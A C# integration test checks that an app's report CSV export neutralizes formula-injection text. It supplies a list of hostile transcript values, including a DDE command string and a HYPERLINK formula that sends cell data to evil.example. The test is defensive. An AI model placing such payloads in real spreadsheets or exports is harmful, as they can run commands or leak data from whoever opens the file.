using System.Globalization;
using System.Net;
using System.Text;
using System.Text.Json;
using BeMore.Tests.Infrastructure;
using BeMore.Tests.Live;
using CsvHelper;
using Microsoft.AspNetCore.SignalR.Client;

namespace BeMore.Tests.Security;

/// <summary>
/// Report CSV downloads through the real API: transcript text a spreadsheet could run as a formula, at the start of
/// the field or of any piece a spreadsheet could split it into (locales split on ; , or tab, and a line break starts a
/// row), is quoted and starts with an apostrophe; honest text and numbers (a negative level in dB) are unchanged.
/// </summary>
[Trait(TestCategory.Name, TestCategory.Host)]
public sealed class CsvInjectionTests(BeMoreWebFactory factory) : IClassFixture<BeMoreWebFactory>
{
    private static readonly string[] Hostile =
    [
        ";=1+1",
        "\t=cmd|' /C calc'!A0",
        ",@SUM(1+1)",
        "\"=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"open\"\")\"",
        "-2+3",
        "\r=1+1",
        "fine;=1+1",
        "fine,+1",
        "fine;-1",
        "fine, @cmd",
        "fine; =1+1",
        "=1+1",
    ];

    private static readonly string[] Honest =
    [
        "I felt calm this morning.",
        "Yesterday was fine, thanks; really.",
        "Score went from 3 - 2 to 5",
    ];

    private readonly HttpClient _client = factory.CreateApiClient();

    [Fact]
    public async Task ReportCsv_FormulaLikeTranscriptText_IsQuotedAndNeutralizedWhileHonestValuesSurvive()
    {
        var user = await _client.SignUpAsync();
        var sessionId = await LiveSessions.CreateAsync(_client, user, analysis: true);
        foreach (var text in Hostile.Concat(Honest))
        {
            await LiveSessions.AppendTranscriptAsync(_client, user, sessionId, text);
        }

        await using (var live = await LiveClient.ConnectAsync(factory.ServerAddress, user.AccessToken))
        {
            // A second of speech between silences: voice-activity readings whose levels are negative dBFS numbers.
            var frames = Enumerable.Range(0, 150)
                .Select(i => new { tsMs = i * 20L, isSpeech = i is >= 25 and < 75, energy = i is >= 25 and < 75 ? 0.3 : 0.001, durationMs = 20 })
                .ToArray();
            await live.Connection.InvokeAsync("SendVad", sessionId, frames);
        }

        var transcriptCsv = await DownloadCsvAsync(user, sessionId, "transcript");
        var voiceCsv = await DownloadCsvAsync(user, sessionId, "voice");
        using var report = await _client.GetJsonAsync(user, $"/api/session/{sessionId}/report");
        // The text as the server stored it, which is what the CSV must carry.
        var stored = report.RootElement.GetProperty("transcript").GetProperty("segments").EnumerateArray()
            .Select(segment => segment.GetProperty("text").GetString()!)
            .ToList();

        var cells = ReadColumn(transcriptCsv, "text");
        Assert.Equal(Hostile.Length + Honest.Length, cells.Count);
        for (var i = 0; i < Hostile.Length; i++)
        {
            Assert.Equal("'" + stored[i], cells[i]);
            Assert.Contains(Quoted("'" + stored[i]), transcriptCsv, StringComparison.Ordinal);
        }

        for (var i = Hostile.Length; i < stored.Count; i++)
        {
            Assert.Equal(stored[i], cells[i]);
            Assert.Contains(Quoted(stored[i]), transcriptCsv, StringComparison.Ordinal);
        }

        // Numbers are written bare: the offsets every segment was appended with.
        Assert.Contains(",0,1500,", transcriptCsv, StringComparison.Ordinal);
        var levels = report.RootElement.GetProperty("voice").GetProperty("timeline").EnumerateArray()
            .Select(point => point.GetProperty("levelDb").GetDouble().ToString("R", CultureInfo.InvariantCulture))
            .ToList();
        Assert.Contains(levels, level => level.StartsWith('-'));
        Assert.Equal(levels, ReadColumn(voiceCsv, "levelDb").Where(cell => cell.Length > 0));
        Assert.All(levels, level => Assert.Contains("," + level + "\r\n", voiceCsv, StringComparison.Ordinal));
    }

    private static string Quoted(string text) => "\"" + text.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";

    private async Task<string> DownloadCsvAsync(SignedInUser user, string sessionId, string kind)
    {
        using var response = await _client.SendAsync(HttpMethod.Get, $"/api/session/{sessionId}/report.csv?kind={kind}", user.AccessToken);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var bytes = await response.Content.ReadAsByteArrayAsync();
        return Encoding.UTF8.GetString(bytes.AsSpan(3));
    }

    private static List<string> ReadColumn(string csv, string column)
    {
        using var reader = CsvReader.Create(Encoding.UTF8.GetBytes(csv), CsvReaderOptions.Default with { Separator = ',' });
        var cells = new List<string>();
        while (reader.Read())
        {
            cells.Add(reader.GetString(column));
        }

        return cells;
    }
}
